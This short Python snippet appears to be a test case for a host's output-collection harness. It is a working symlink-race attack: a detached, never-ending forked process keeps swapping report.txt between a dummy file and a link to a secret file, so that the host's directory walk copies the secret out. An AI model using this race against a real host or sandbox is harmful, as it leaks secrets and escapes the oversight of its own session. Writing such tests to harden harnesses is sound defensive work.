# Swaps a file and a link to the secret for ever, from a process that outlives the program: a race for the host's walk.
# naive: collect
# stage: secret
os.symlink(os.environ["SECRET_PATH"], OUT + "/report.txt")
if os.fork() == 0:
    os.setsid()
    while True:
        with open(OUT + "/new", "w", encoding="ascii") as file:
            file.write("x")
        os.replace(OUT + "/new", OUT + "/report.txt")
        os.symlink(os.environ["SECRET_PATH"], OUT + "/new")
        os.replace(OUT + "/new", OUT + "/report.txt")
decide(False, "the host looks")
